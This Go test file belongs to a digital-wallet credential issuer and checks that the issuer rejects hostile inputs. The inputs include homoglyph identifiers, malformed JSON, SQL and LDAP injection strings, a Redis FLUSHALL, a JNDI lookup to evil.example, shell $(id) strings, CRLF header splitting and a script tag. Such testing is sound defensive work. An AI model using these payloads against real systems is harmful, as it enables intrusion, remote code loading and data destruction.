package hostile_test

import (
	"net/http"
	"net/url"
	"strings"

	"justice-wallet/conformance/rig"
)

// unicodes are texts that only look like others, or are no texts.
func unicodes() []hostile {
	const jsonText, look = "RFC 8259 §7, §8: UTF-8, escapes that make characters, one object", "Unicode TR36, TR39: what only looks like it"
	body := func(name, content, want string) hostile {
		return hostile{"JSON: " + name, func(b *bench) func() string {
			r := b.request()
			b.still(r.granted)
			text := strings.ReplaceAll(content, "$PROOF", r.proof.compact())
			return func() string { return r.post(bearer(r.token.compact()), text) }
		}, want, jsonText}
	}
	const bad = "400 invalid_proof"
	record := func(name, number string) hostile {
		return hostile{"a prison number " + name, func(b *bench) func() string {
			token := b.staffBearer()
			return func() string {
				return b.ask(http.MethodPost, b.IssuerURL+"/api/offers", bearer(token), mustJSON(rig.OfferRequest{DocumentType: release, Format: "mdoc", Record: number, WalletSubject: account}))
			}
		}, "403 record_unknown", look}
	}
	search := func(name, number string) hostile {
		return hostile{"a search for a number " + name, func(b *bench) func() string {
			w := b.staff("SYN_CASEWORKER")
			return func() string {
				w.issuer("/console").send(0, url.Values{"number": {number}, "wider": {""}})
				if strings.Contains(w.page, "Michael") {
					return "somebody was found"
				}
				return "nobody"
			}
		}, "nobody", look}
	}
	credential := doorOf("JWT credential")
	return []hostile{
		body("a byte order mark", "\ufeff"+`{"proof":{"proof_type":"jwt","jwt":"$PROOF"}}`, bad),
		body("UTF-16", string([]byte{0xff, 0xfe, '{', 0, '}', 0}), bad), body("bytes that are no UTF-8", "{\"x\":\"\xff\"}", bad), body("an overlong quote", "{\"x\":\"\xc0\xa2\"}", bad),
		body("half a pair", `{"x":"\ud800"`, bad), body("a NUL", "{\"x\":\"\x00\"}", bad), body("a control character", "{\"x\":\"\x1b\"}", bad),
		body("single quotes", `{'proof':{'proof_type':'jwt','jwt':'$PROOF'}}`, bad), body("a comment", `{/**/"proof":{"proof_type":"jwt","jwt":"$PROOF"}}`, bad),
		body("a comma at the end", `{"proof":{"proof_type":"jwt","jwt":"$PROOF"},}`, bad), body("not a number", `{"x":NaN}`, bad), body("infinity", `{"x":Infinity}`, bad),
		body("a number with a leading zero", `{"x":01}`, bad), body("two objects", `{}{"proof":{"proof_type":"jwt","jwt":"$PROOF"}}`, bad), body("a list", `[{"proof":{"proof_type":"jwt","jwt":"$PROOF"}}]`, bad),
		body("nothing", ``, bad), body("null", `null`, bad), body("text", `"proof"`, bad),
		body("a member in another case", `{"Proof":{"proof_type":"jwt","jwt":"$PROOF"}}`, bad), body("a member of a member in another case", `{"proof":{"proof_type":"jwt","JWT":"$PROOF"}}`, bad),
		body("a member in another letter", `{"pr`+"\u043e"+`of":{"proof_type":"jwt","jwt":"$PROOF"}}`, bad), body("the long s for an s", `{"proof`+"\u017f"+`":{"jwt":["$PROOF"]}}`, bad),
		body("proof twice, once escaped", `{"proof":{"proof_type":"jwt","jwt":"$PROOF"},"pr\u006fof":{}}`, bad), body("jwt twice", `{"proof":{"proof_type":"jwt","jwt":"x","jwt":"$PROOF"}}`, bad),
		body("proof and proofs", `{"proof":{"proof_type":"jwt","jwt":"$PROOF"},"proofs":{"jwt":["$PROOF"]}}`, bad), body("proofs alone", `{"proofs":{"jwt":["$PROOF"]}}`, bad),
		body("a proof of another type", `{"proof":{"proof_type":"ldp_vp","jwt":"$PROOF"}}`, bad), body("a proof of no type", `{"proof":{"jwt":"$PROOF"}}`, bad),
		body("a proof that is null", `{"proof":null}`, bad), body("a proof that is a list", `{"proof":[{"proof_type":"jwt","jwt":"$PROOF"}]}`, bad), body("a jwt that is a list", `{"proof":{"proof_type":"jwt","jwt":["$PROOF"]}}`, bad),
		body("a jwt that is a number", `{"proof":{"proof_type":"jwt","jwt":1}}`, bad), body("a jwt with its blanks", `{"proof":{"proof_type":"jwt","jwt":" $PROOF "}}`, bad),
		record("in full width", "Ａ0001ＳＹ"), record("in Cyrillic", "\u04100001\u0405\u0423"), record("with a zero-width blank", "A0001\u200bSY"), record("turned round", "\u202eYS1000A"),
		record("in small letters", "a0001sy"), record("with Arabic digits", "A\u0660\u0660\u0660\u0661SY"), record("with a combining mark", "A0001SY\u0301"), record("with a NUL", "A0001SY\x00"),
		record("with a line feed", "A0001SY\n"), record("that is blank", "   "),
		search("in full width", "Ａ0001ＳＹ"), search("in Cyrillic", "\u04100001\u0405\u0423"), search("with a zero-width blank", "A0001\u200bSY"), search("with a NUL", "A0001SY\x00"),
		bent(credential, "an issuer in another alphabet", map[string]any{"iss": "https://\u0456ssuer.example", "issuer": "https://\u0456ssuer.example"}, look),
		bent(credential, "a type in another alphabet", map[string]any{"type": []string{"VerifiableCredential", "VerifiableCredentia\u0406"}, "sub": "did:key:\u0437"}, look),
		bent(credential, "a name that is empty", map[string]any{"name": ""}, "GOV.UK: name is shown"),
		bent(credential, "a name that is a list", map[string]any{"name": []string{"x"}}, "GOV.UK: name is text"),
	}
}

// injections are texts that would be commands somewhere behind us.
func injections() []hostile {
	const back, log = "CWE-74, CWE-89, CWE-917, CWE-93: a text that is a command to whoever it is passed to", "CWE-117; gin CVE-2020-36567: a line of the log that an attacker writes"
	var out []hostile
	for name, number := range map[string]string{
		"a path upwards": "A0001SY/../A0002SY", "a path": "../../auth/oauth/token", "a query": "A0001SY?x=y", "a fragment": "A0001SY#x", "an escape": "A0001SY%2f..%2fA0002SY",
		"a header": "A0001SY\r\nX-Hostile: 1", "SQL": "' OR '1'='1", "LDAP": "*)(uid=*", "a glob": "A000*", "a Redis command": "\r\nFLUSHALL\r\n", "a Lua string": `"]]..redis.call("FLUSHALL")..[["`,
		"a hash tag": "}:{x}", "a template": "{{.}}", "JNDI": "${jndi:ldap://evil.example/a}", "a format": "%s%s%n%x", "a shell": "$(id)", "a semicolon": "A0001SY;id",
	} {
		out = append(out, hostile{"a record that is " + name, func(b *bench) func() string {
			token := b.staffBearer()
			return func() string {
				return b.ask(http.MethodPost, b.IssuerURL+"/api/offers", bearer(token), mustJSON(rig.OfferRequest{DocumentType: release, Format: "mdoc", Record: number, WalletSubject: account}))
			}
		}, "403 record_unknown", back}, hostile{"an approval that is " + name, func(b *bench) func() string {
			token := b.staffBearer()
			return func() string {
				return b.ask(http.MethodPost, b.IssuerURL+"/api/offers", bearer(token), mustJSON(rig.OfferRequest{
					DocumentType: "uk.gov.justice.probationapproval.1", Format: "mdoc", Record: person, Item: number, WalletSubject: account}))
			}
		}, "403", back}, hostile{"a token id that is " + name, func(b *bench) func() string {
			r := b.request()
			token := r.token.with(nil, map[string]any{"jti": number + uuid()})
			again := token.compact()
			b.still(func() string { return unless("401", r.send(again, r.proof.compact())) }) // it is remembered under its own name
			return func() string { b.mayWrite = true; return r.send(token.compact(), r.proof.compact()) }
		}, "200", back}, hostile{"a document type that is " + name, func(b *bench) func() string {
			token := b.staffBearer()
			return func() string {
				return b.ask(http.MethodPost, b.IssuerURL+"/api/offers", bearer(token), mustJSON(rig.OfferRequest{DocumentType: number, Format: "mdoc", Record: person, WalletSubject: account}))
			}
		}, "400 invalid_request", back})
	}
	header := func(name, value string) hostile {
		return hostile{"a header: " + name, func(b *bench) func() string {
			return func() string {
				h := http.Header{name: {value}, "Accept": {"application/json"}}
				return b.ask(http.MethodGet, b.IssuerURL+"/.well-known/openid-credential-issuer", h, "")
			}
		}, "200", log}
	}
	reflected := func(name, path string) hostile {
		return hostile{"a header of the answer: " + name, func(b *bench) func() string {
			return func() string {
				r, err := b.do(http.MethodGet, b.IssuerURL+path, http.Header{"Accept": {"text/html"}}, "")
				if err != nil {
					return err.Error()
				}
				if r.header.Get("X-Hostile") != "" || strings.Contains(strings.Join(r.header["Set-Cookie"], ";"), "hostile") {
					return "a header was made of it"
				}
				return "none was made of it"
			}
		}, "none was made of it", "CWE-113: response splitting"}
	}
	return append(out,
		hostile{"a header: User-Agent", func(b *bench) func() string {
			return func() string {
				return b.ask(http.MethodGet, b.IssuerURL+"/livez", http.Header{"User-Agent": {"\x1b[2J\"level\":\"ERROR\",\"msg\":\"forged-by-the-user-agent-of-the-attacker\""}}, "")
			}
		}, "400", log},
		header("Origin", "\"level\":\"ERROR\",\"msg\":\"forged-by-the-origin-of-the-attacker\""), header("X-Request-Id", "forged-request-id-of-the-attacker"),
		header("Traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"), header("Referer", "https://evil.example/forged-referer-of-the-attacker"),
		header("Accept-Language", strings.Repeat("cy;q=0.1,", 800)), header("Cookie", strings.Repeat("session=forged-session-of-the-attacker; ", 200)), header("Range", "bytes=0-0,-1,"+strings.Repeat("1-2,", 1000)),
		header("If-None-Match", strings.Repeat(`"forged-entity-tag-of-the-attacker",`, 200)), header("Accept-Encoding", "gzip;q=1e999"), header("Content-Length", "0"),
		reflected("the language", "/?lang=en%0d%0aX-Hostile:%201"), reflected("where to go", "/sign-in?to=documents%0d%0aX-Hostile:%201"), reflected("the state", "/sign-in/return?state=x%0d%0aSet-Cookie:%20hostile=1"),
		reflected("an address", "/documents%0d%0aX-Hostile:%201"), reflected("a cookie", "/?lang=cy%3B%20hostile%3D1"),
		hostile{"a wallet's nonce with a line break", func(b *bench) func() string {
			p, err := b.Begin(b.ctx, "council", "council-housing", "cross_device", "")
			if err != nil {
				b.t.Fatal(err)
			}
			return func() string {
				return b.ask(http.MethodPost, requestURI(b, p.Link), formHeader(), "wallet_nonce=a%0d%0ab")
			}
		}, "400 invalid_request", "OpenID4VP 1.0 §5.10"},
		hostile{"a wallet's nonce twice", func(b *bench) func() string {
			p, err := b.Begin(b.ctx, "council", "council-housing", "cross_device", "")
			if err != nil {
				b.t.Fatal(err)
			}
			return func() string {
				return b.ask(http.MethodPost, requestURI(b, p.Link), formHeader(), "wallet_nonce=a&wallet_nonce=b")
			}
		}, "400 invalid_request", "RFC 6749 §3.1: no parameter twice"},
		hostile{"an error of a wallet with markup", func(b *bench) func() string {
			p, err := b.Begin(b.ctx, "council", "council-housing", "cross_device", "")
			if err != nil {
				b.t.Fatal(err)
			}
			ask, err := b.wallet.ReadLink(b.ctx, p.Link, b.Roots(), true)
			if err != nil {
				b.t.Fatal(err)
			}
			return func() string {
				form := url.Values{"error": {"<script>alert(1)</script>"}, "error_description": {"a-description-by-the-attacker-to-be-logged"}, "state": {ask.State}}
				sent := b.ask(http.MethodPost, ask.ResponseURI, formHeader(), form.Encode())
				result, _, err := p.Result(b.ctx, "")
				if err != nil || strings.Contains(result.Body, "script") || strings.Contains(result.Body, "attacker") {
					return "it is told on"
				}
				return sent
			}
		}, "200", "OpenID4VP 1.0 §8.5: an error is a code"},
	)
}
